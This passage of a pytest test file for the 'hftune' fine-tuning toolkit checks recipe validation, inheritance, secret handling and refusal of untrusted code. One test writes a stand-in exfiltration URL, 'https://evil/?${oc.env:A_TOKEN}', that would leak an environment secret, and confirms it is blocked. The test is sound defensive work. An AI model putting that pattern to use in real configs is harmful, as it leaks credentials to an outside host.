    for name in names:
        (folder / name).touch()
    assert refusal(f"recipe={plain}", f"task.model={folder}") == (
        f"task.model={folder} has no config.json (it has {there}): name a folder written by save_pretrained."
    )


def test_the_model_of_an_output_folder_is_the_near_one(plain, tmp_path):
    run = tmp_path / "run"
    (run / "model").mkdir(parents=True)
    (run / "model" / "config.json").touch()
    assert refusal(f"recipe={plain}", f"task.model={run}") == (
        f"task.model={run} has no config.json (it has model): name a folder written by save_pretrained. Did you mean {run}/model?"
    )


@pytest.mark.parametrize("folder", ["/no/where", "./nowhere", "~/no/where", "a/b/c"])
def test_a_missing_model_folder_is_refused(plain, folder):
    assert refusal(f"recipe={plain}", f"task.model={folder}") == f"task.model={folder}: there is no such folder."


def test_a_model_folder_with_a_config_is_accepted(plain, tmp_path):
    (tmp_path / "config.json").write_text("{}")
    Recipe.from_argv([f"recipe={plain}", f"task.model={tmp_path}"]).validate()


def test_a_fresh_model_without_a_type_asks_for_it(write):
    path = write("mine.yaml", "task: {type: SequenceClassification, model: null, dataset: 'hftune.data.demo:reviews'}")
    assert refusal(f"recipe={path}") == (
        f"task.model=null builds a new model: set task.model_config.model_type (such as bert) and its sizes. ({path})"
    )


# What a base brings along


@pytest.fixture
def above(write) -> Callable[[str], Path]:
    """Return a function that writes a recipe above one with a model_config of its own."""
    write("below.yaml", PLAIN + "train: {lr: 0.25, epochs: 7}")
    return lambda text: write("above.yaml", f"base: below.yaml\n{text}")


def test_a_mapping_is_merged_with_the_base_s_unless_it_is_to_replace_it(above):
    mine = "task: {model_config: {model_type: gpt2}}"
    assert Recipe.load(above(mine)).task.model_config == {"model_type": "gpt2", "hidden_size": 16}
    replaced = Recipe.load(above(f"replace: [task.model_config]\n{mine}"))
    assert replaced.task.model_config == {"model_type": "gpt2"}
    assert replaced.train.lr == 0.25


def test_an_entry_of_a_mapping_and_a_whole_section_can_be_replaced(above):
    recipe = Recipe.load(above("replace: [task.model_config.hidden_size, train]\ntrain: {batch_size: 8}"))
    assert recipe.task.model_config == {"model_type": "bert"}
    assert recipe.train == TrainConfig(batch_size=8)


def test_a_task_can_be_replaced_by_one_of_another_type(above, own_tasks):
    recipe = Recipe.load(above("replace: [task]\ntask: {type: own_tasks.Tuned, path: a}"))
    assert (recipe.task.path, recipe.train.lr) == ("a", 0.25)


def test_the_command_line_can_replace_a_mapping_too(plain):
    words = ["replace=[task.model_config]", "task.model_config={model_type: gpt2}"]
    assert Recipe.load(plain, *words).task.model_config == {"model_type": "gpt2"}


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "replace: [task.modelconfig]",
            "replace=[task.modelconfig]: task.modelconfig is not a key of a recipe. Did you mean 'task.model_config'?",
        ),
        ("replace: task", "replace='task' is not a list of keys, such as [task.model_config]."),
        ("replace: [1]", "replace=[1] is not a list of keys, such as [task.model_config]."),
    ],
)
def test_what_cannot_be_replaced_is_named_with_its_file(above, text, message):
    path = above(text)
    assert refusal(f"recipe={path}") == f"{message} ({path})"


def test_replacing_without_a_base_is_refused(write):
    path = write("mine.yaml", PLAIN + "replace: [train]")
    assert refusal(f"recipe={path}") == f"replace=['train'] has no effect without a base. ({path})"


def test_a_schedule_chosen_above_a_base_does_without_the_keys_of_the_base_s_schedule(write):
    write("step.yaml", PLAIN + "train: {schedule: step, gamma: 0.5, step_size: 2}")
    write("cosine.yaml", PLAIN + "train: {schedule: cosine, min_lr: 1e-6}")
    train = Recipe.load(write("mine.yaml", "base: step.yaml"), "train.schedule=linear").train
    assert (train.schedule, train.gamma, train.step_size) == ("linear", None, 1)
    assert Recipe.load(write("mine.yaml", "base: cosine.yaml\ntrain: {schedule: constant}")).train.min_lr == 0
    assert Recipe.load(write("mine.yaml", "base: cosine.yaml\ntrain: {schedule: linear}")).train.min_lr == 1e-6


def test_keys_of_another_schedule_are_refused_where_they_were_not_inherited(write):
    path = write("linear.yaml", PLAIN + "train: {schedule: linear}")
    message = "train.gamma=0.5 needs train.schedule=step, not linear."
    assert refusal(f"recipe={path}", "train.gamma=0.5") == (
        f"{message} (train.schedule: {path}; train.gamma: the command line)"
    )
    assert refusal(f"recipe={path}", "train.gamma=0.5", "train.schedule=linear") == message


# Where a value comes from


def test_a_bound_names_the_file_that_a_value_comes_from(above):
    path = above("train: {batch_size: 0}")
    assert refusal(f"recipe={path}") == f"train.batch_size=0 must be at least 1. ({path})"


def test_a_bound_between_two_keys_names_both_origins(above):
    path = above("train: {micro_batch_size: 9}")
    assert refusal(f"recipe={path}", "train.batch_size=8") == (
        "train.micro_batch_size=9 is larger than train.batch_size=8: a micro-batch is a part of the global batch. Lower the "
        f"first or raise the second. (train.micro_batch_size: {path}; train.batch_size: the command line)"
    )


def test_a_missing_file_is_told_with_the_recipe_that_names_it(above):
    path = above("task: {model: ./nowhere}")
    assert refusal(f"recipe={path}") == f"task.model=./nowhere: there is no such folder. ({path})"
    assert refusal("recipe=yelp_demo", "task.model=./nowhere") == "task.model=./nowhere: there is no such folder."


def test_a_model_that_another_recipe_trains_is_told_with_the_command(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert refusal("recipe=chats_lora_demo") == (
        "task.model=outputs/chats_demo/model: there is no such folder. Recipe chats_demo trains such a model: hftune train "
        "recipe=chats_demo"
    )


# Numbers that YAML 1.1 reads differently


@pytest.mark.parametrize(("text", "number"), [("1:30", 90), ("010", 8), ("1:30.5", 90.5), ("-1:00", -60)])
def test_a_number_that_yaml_takes_for_another_one_is_refused(write, plain, text, number):
    reason = f"YAML reads {text} as the number {number}. Write {number}, or put a text in quotes: '{text}'."
    assert refusal(f"recipe={plain}", f"train.epochs={text}") == f"train.epochs={text}: {reason}"
    path = write("mine.yaml", PLAIN + f"train:\n  epochs: {text}\n")
    assert refusal(f"recipe={path}") == f"train.epochs={text}: {reason} ({path})"


def test_the_same_as_a_text_in_quotes_and_plain_numbers_are_accepted(plain):
    words = ["track.run_name='1:30'", "train.lr=0.5", "train.epochs=10", "seed=0", "task.label_names=['01','02']"]
    recipe = Recipe.load(plain, *words)
    assert (recipe.track.run_name, recipe.task.label_names) == ("1:30", ["01", "02"])


# Secrets


@pytest.fixture
def secret(monkeypatch) -> str:
    monkeypatch.setenv("A_TOKEN", "s3cr3t")
    return "s3cr3t"


def test_a_text_from_the_environment_is_used_and_written_nowhere(plain, secret, write):
    recipe = Recipe.load(
        plain,
        "track.run_name=${oc.env:A_TOKEN}",
        "track.project=${track.run_name}-project",
        "track.with=[wandb,'${oc.decode:tensorboard}']",
        "task.data_files.train=https://host/${oc.env:A_TOKEN}",
        "task.data_files.eval=eval.jsonl",
    )
    assert (recipe.track.run_name, recipe.track.project) == (secret, f"{secret}-project")
    assert recipe.task.data_files["train"] == f"https://host/{secret}"
    assert secret not in recipe.to_yaml() and secret not in str(recipe.to_dict()) and secret not in repr(recipe.source.origins)
    assert {key: recipe.to_dict()["track"][key] for key in ("with", "project", "run_name")} == {
        "with": ["wandb", "${oc.decode:tensorboard}"],
        "project": "${track.run_name}-project",
        "run_name": "${oc.env:A_TOKEN}",
    }
    assert Recipe.load(write("recipe.yaml", recipe.to_yaml())) == recipe


def test_a_secret_in_the_wrong_place_is_not_shown(plain, secret):
    assert refusal(f"recipe={plain}", "train.lr=${oc.env:A_TOKEN}") == (
        "train.lr: the value that it refers to has the wrong type."
    )
    assert refusal(f"recipe={plain}", "train.lr=${oc.env:NO_SUCH}") == "train.lr: the environment variable NO_SUCH is not set."


def test_a_number_from_the_environment_is_written_as_it_was_used(plain, monkeypatch):
    monkeypatch.setenv("SIZE", "16")
    recipe = Recipe.load(plain, "train.batch_size=${oc.env:SIZE}", "track.run_name=${oc.env:SIZE}")
    assert recipe.to_dict()["train"]["batch_size"] == 16
    assert recipe.to_dict()["track"]["run_name"] == "${oc.env:SIZE}"


def test_a_value_replaced_later_is_written_as_it_is(plain, secret):
    recipe = replace(Recipe.load(plain, "output_dir=/scratch/${oc.env:A_TOKEN}"), output_dir="/elsewhere")
    assert recipe.to_dict()["output_dir"] == "/elsewhere"


def test_processes_with_different_environments_are_told_apart_by_digests(plain, secret, monkeypatch):
    word = "task.text_column=${oc.env:A_TOKEN}"
    here = Recipe.load(plain, word)
    monkeypatch.setenv("A_TOKEN", "other")
    there = Recipe.load(plain, word)
    assert here.to_dict() == there.to_dict()
    assert here.environment_digests() != there.environment_digests()
    assert list(here.environment_digests()) == ["task.text_column (from the environment)"]
    assert secret not in str(here.environment_digests())


def test_spark_tasks_get_the_variables_that_a_recipe_names(plain, secret):
    from hftune.launchers.spark import environment

    assert environment(Recipe.load(plain, "track.run_name=${oc.env:A_TOKEN}"), use_gpu=True)["A_TOKEN"] == secret
    assert "A_TOKEN" not in environment(Recipe.load(plain), use_gpu=True)


# Code that is not hftune's


BAD_MODULES = {
    "leaves": (
        "import sys\nsys.exit(0)\n",
        "importing leaves calls sys.exit(0); move the code that it runs under if __name__ == '__main__': ({path}, line 2)",
    ),
    "broken": ("def f(:\n", "invalid syntax (broken.py, line 1)"),
    "raises": ("raise RuntimeError('no GPU')\n", "RuntimeError: no GPU ({path}, line 1)"),
}


@pytest.mark.parametrize("name", BAD_MODULES)
@pytest.mark.parametrize("key", ["task.type", "task.network", "task.dataset"])
def test_a_module_that_does_something_else_on_import_is_named_with_its_key(write, plain, tmp_path, monkeypatch, name, key):
    text, reason = BAD_MODULES[name]
    path = write(f"{name}.py", text)
    monkeypatch.syspath_prepend(tmp_path)
    with pytest.raises(ConfigError) as caught:
        import_named(key, f"{name}.Thing", name, "Thing")
    assert str(caught.value) == f"{key}={name}.Thing cannot be imported: {reason.format(path=path)}."


def test_a_task_file_that_exits_ends_with_exit_code_2(write, capsys):
    write("leaves_at_once.py", "import sys\nsys.exit(0)\n")
    assert run.main([f"recipe={write('mine.yaml', 'task: {type: leaves_at_once.Mine}')}"]) == 2
    assert capsys.readouterr().err.startswith(
        "hftune: task.type=leaves_at_once.Mine cannot be imported: importing leaves_at_once"
    )


@pytest.fixture
def elsewhere(tmp_path, monkeypatch) -> None:
    """Start in a folder that holds no recipe, with a path that is given back."""
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    monkeypatch.setattr(sys, "path", [*sys.path])


def test_a_task_is_found_next_to_its_recipe(write, elsewhere):
    write("task_beside.py", OWN_TASKS)
    path = write("mine.yaml", "task: {type: task_beside.Tuned, path: a}")
    assert Recipe.load(path).task.path == "a"
    assert sys.path[-1] == str(path.parent)  # last: it hides nothing
    above = write("elsewhere/above.yaml", "base: ../mine.yaml")
    assert Recipe.load(above).task.path == "a"


def test_a_function_that_returns_rows_is_found_next_to_its_recipe(write, elsewhere):
    write("rows_beside.py", "def rows(part):\n    return [{'text': part, 'label': 0}]\n")
    text = PLAIN.replace("hftune.data.demo:reviews", "rows_beside:rows")
    recipe = Recipe.load(write("mine.yaml", text))
    from hftune.data.rows import load_split

    assert load_split(recipe.task.source, "train")["text"] == ["train"]


def test_a_recipe_of_hftune_s_own_code_leaves_the_path_alone(plain, elsewhere):
    before = list(sys.path)
    Recipe.load(plain)
    assert sys.path == before


def test_a_module_next_to_the_recipe_that_python_would_not_import_is_refused(write, elsewhere):
    beside = write("yaml.py", OWN_TASKS)
    path = write("mine.yaml", "task: {type: yaml.Tuned, path: a}")
    assert refusal(f"recipe={path}") == (
        f"task.type=yaml.Tuned: {beside} is next to the recipe, but Python imports {yaml.__file__} as yaml. Rename your module."
    )


TRUST = "Add --trust-code (in Python: trust_code=True) if you trust whoever wrote it."


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("task: {type: payload.Evil}", "task.type=payload.Evil"),
        (PLAIN.replace("hftune.data.demo:reviews", "payload:rows"), "task.dataset=payload:rows"),
        ("task: {type: ImageRestoration, network: payload.Net}", "task.network=payload.Net"),
        (f"{PLAIN}train: {{optimizer: payload.Lion}}", "train.optimizer=payload.Lion"),
        (
            f"{PLAIN}train: {{optimizer: torch.optim.lr_scheduler.LambdaLR}}",
            "train.optimizer=torch.optim.lr_scheduler.LambdaLR",
        ),
        (f"{PLAIN}train: {{schedule: payload.f}}", "train.schedule=payload.f"),
        (f"{PLAIN}eval: {{metrics: [payload.f]}}", "eval.metrics=payload.f"),
        (f"{PLAIN}eval: {{metrics: [somebody/metric]}}", "eval.metrics=somebody/metric"),
        (f"{PLAIN}track: {{with: [payload.Tracker]}}", "track.with=payload.Tracker"),
    ],
)
def test_code_of_a_recipe_that_is_not_trusted_is_not_imported(write, elsewhere, text, named):
    write("payload.py", "raise SystemExit('imported')\n")
    write("elsewhere/payload.py", "raise SystemExit('imported')\n")
    path = write("recipe.yaml", text)
    with pytest.raises(ConfigError) as caught:
        Recipe.load(path, trust_code=False)
    assert str(caught.value) == f"{named} ({path}) is not hftune's own code, and importing it would run it. {TRUST}"
    assert "payload" not in sys.modules


def test_torchs_own_optimizers_need_no_trust(write):
    path = write("recipe.yaml", f"{PLAIN}train: {{optimizer: torch.optim.RMSprop}}")
    assert Recipe.load(path, trust_code=False).train.optimizer == "torch.optim.RMSprop"


def test_a_task_may_be_made_by_a_function(write, elsewhere):
    """Its class has no name that pickle could find it by."""
    task = "from dataclasses import dataclass\nfrom hftune.tasks import SequenceClassification\n"
    task += "def make():\n    @dataclass\n    class Own(SequenceClassification):\n        size: int = 3\n    return Own\nMade = make()\n"
    write("made_by_function.py", task)
    path = write("mine.yaml", "task: {type: made_by_function.Made, model: null, dataset: hftune.data.demo:reviews}")
    assert [Recipe.load(path, *words).task.size for words in ((), ("task.size=5",), ())] == [3, 5, 3]


@pytest.mark.parametrize(
    ("section", "name"),
    [
        ("train: {optimizer: code_beside.Lion}", "code_beside"),
        ("train: {schedule: code_beside.f}", "code_beside"),
        ("eval: {metrics: [code_beside.f]}", "code_beside"),
        ("track: {with: [code_beside.Tracker]}", "code_beside"),
    ],
)
def test_code_of_every_section_is_found_next_to_its_recipe(write, elsewhere, section, name):
    write(f"{name}.py", "Lion = Tracker = f = 1\n")
    path = write("mine.yaml", PLAIN + section)
    Recipe.load(path)
    assert sys.path[-1] == str(path.parent)


def test_keys_of_another_optimizer_in_the_base_are_dropped(write):
    write("below.yaml", PLAIN + "train: {optimizer: adamw, betas: [0.9, 0.95], weight_decay: 0.1}")
    above = Recipe.load(write("above.yaml", "base: below.yaml\ntrain: {optimizer: torch.optim.RMSprop}"))
    assert (above.train.betas, above.train.weight_decay) == ((0.9, 0.999), 0.1)


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (
            ("train.optimizer=torch.optim.RMSprop", "train.momentum=0.9"),
            "train.momentum=0.9 needs train.optimizer=sgd, not torch.optim.RMSprop.",
        ),
        (
            ("train.optimizer_args={lr: 0.1}",),
            "train.optimizer_args.lr does not belong there: set train.lr instead.",
        ),
        (
            ("train.optimizer=sgd", "train.optimizer_args={momentum: 0.1}"),
            "train.optimizer_args.momentum does not belong there: set train.momentum instead.",
        ),
        (
            ("train.schedule=my.schedule", "train.min_lr=1e-6"),
            "train.min_lr=1e-06 needs train.schedule=linear, cosine, wsd, cosine_restarts or polynomial, not my.schedule.",
        ),
        (("eval.metrics=[f1,f1]",), "eval.metrics=['f1', 'f1'] names f1 twice."),
    ],
)
def test_keys_that_do_not_go_together_are_refused(plain, words, message):
    assert refusal(f"recipe={plain}", *words) == message


def test_a_metric_of_ones_own_that_picks_the_best_model_needs_its_direction(plain):
    words = ("eval.metrics=[f1]", "eval.metric=f1")
    with pytest.raises(ConfigError) as caught:
        Recipe.load(plain, *words).validate()
    assert str(caught.value).startswith(
        "eval.metric=f1: a metric of eval.metrics does not declare whether greater is better. Set eval.greater_is_better to true "
        "or false."
    )
    chosen = Recipe.load(plain, *words, "eval.greater_is_better=true")
    chosen.validate()
    assert chosen.greater_is_better


def test_a_metric_that_the_task_computes_anyway_is_refused(plain):
    with pytest.raises(ConfigError) as caught:
        Recipe.load(plain, "eval.metrics=[accuracy]").validate()
    assert str(caught.value) == "eval.metrics=accuracy: SequenceClassification computes accuracy by itself. Leave it out."


def test_code_that_is_named_on_the_command_line_is_meant(plain, own_tasks):
    assert Recipe.load(plain, "task.dataset=own_tasks:rows", trust_code=False).task.dataset == "own_tasks:rows"


def test_a_recipe_of_hftune_s_own_code_needs_no_trust(plain):
    assert Recipe.load(plain, trust_code=False) == Recipe.load(plain)


@pytest.mark.parametrize(
    "text",
    [
        PLAIN,
        f"{PLAIN}train: {{optimizer: torch.optim.RMSprop}}",
        f"{PLAIN}track: {{project: '${{oc.env:A_TOKEN}}'}}",
        "task: {type: code_beside.Own, model: null, dataset: hftune.data.demo:reviews}",
        PLAIN.replace("hftune.data.demo:reviews", "code_beside:f"),
        f"{PLAIN}train: {{optimizer: code_beside.f}}",
        f"{PLAIN}train: {{schedule: code_beside.f}}",
        f"{PLAIN}eval: {{metrics: [accuracy_of_someone]}}",
        "task: {type: SequenceClassification, model: null, dataset: '${oc.env:A_TOKEN}'}",
    ],
)
def test_a_recipe_says_whether_it_is_refused_without_trust(write, elsewhere, secret, text, monkeypatch):
    monkeypatch.delitem(sys.modules, "code_beside", raising=False)
    task = "from dataclasses import dataclass\nfrom hftune.tasks import SequenceClassification\n"
    task += "@dataclass\nclass Own(SequenceClassification): pass\n"
    write("code_beside.py", task + "def f(split): return []\n")
    recipe = Recipe.load(write("recipe.yaml", text))
    saved = write("saved.yaml", recipe.to_yaml())
    try:
        Recipe.load(saved, trust_code=False)
    except ConfigError as error:
        assert "trust" in str(error) and recipe.needs_trust()
    else:
        assert not recipe.needs_trust()


def test_a_recipe_that_is_not_trusted_puts_no_secret_into_its_task(write, secret):
    text = "task: {type: SequenceClassification, model: null, dataset: 'https://evil/?${oc.env:A_TOKEN}'}"
    path = write("recipe.yaml", text)
    with pytest.raises(ConfigError) as caught:
        Recipe.load(path, trust_code=False)
    assert str(caught.value) == f"The task of {path} refers to environment variables, which can be secrets. {TRUST}"
    hidden = write(
        "hidden.yaml", text.replace("${oc.env:A_TOKEN}", "${track.project}") + "\ntrack: {project: '${oc.env:A_TOKEN}'}"
    )
    with pytest.raises(ConfigError, match="refers to environment variables"):
        Recipe.load(hidden, trust_code=False)


# What is imported


@pytest.mark.parametrize("name", ["hftune.launchers.quietly:main", "hftune.cli:main", "hftune.databases:x"])
def test_not_everything_of_hftune_is_data_that_a_recipe_may_call(plain, name):
    with pytest.raises(ConfigError) as caught:
        Recipe.load(plain, f"task.dataset={name}").to_yaml()
        (path := plain.with_name("foreign.yaml")).write_text(plain.read_text().replace("hftune.data.demo:reviews", name))
        Recipe.load(path, trust_code=False)
    assert "--trust-code" in str(caught.value)


@pytest.mark.parametrize(
    ("word", "known"),
    [("train.learning_rate=1", "train.lr"), ("num_train_epochs=3", "train.epochs"), ("optim=adam", "train.optimizer")],
)
def test_other_toolkits_names_of_a_key_are_understood(word, known):
    assert refusal("recipe=yelp_demo", word).endswith(f"is not a key of a recipe. Did you mean '{known}'?")


def test_a_recipe_without_its_key_is_understood(tmp_path):
    (tmp_path / "recipe.yaml").touch()
    assert refusal(str(tmp_path)).endswith(f" Did you mean recipe={tmp_path}/recipe.yaml?")
    assert refusal("yelp_demo") == "Name one recipe, such as recipe=yelp_demo; 0 were given. Did you mean recipe=yelp_demo?"


@pytest.mark.parametrize(
    ("name", "ours"),
    {
        "warmup_steps": "train.warmup_ratio",
        "gradient_accumulation_steps": "train.batch_size",
        "bf16": "train.mixed_precision",
        "save_total_limit": "checkpoint.keep",
        "metric_for_best_model": "eval.metric",
        "resume_from_checkpoint": "resume",
    }.items(),
)
def test_a_key_of_trainer_is_answered_with_ours(name, ours):
    with pytest.raises(ConfigError, match=rf"train\.{name} is not a key of a recipe\. Did you mean '{ours}'\?"):
        Recipe.load("yelp_demo", f"train.{name}=1")
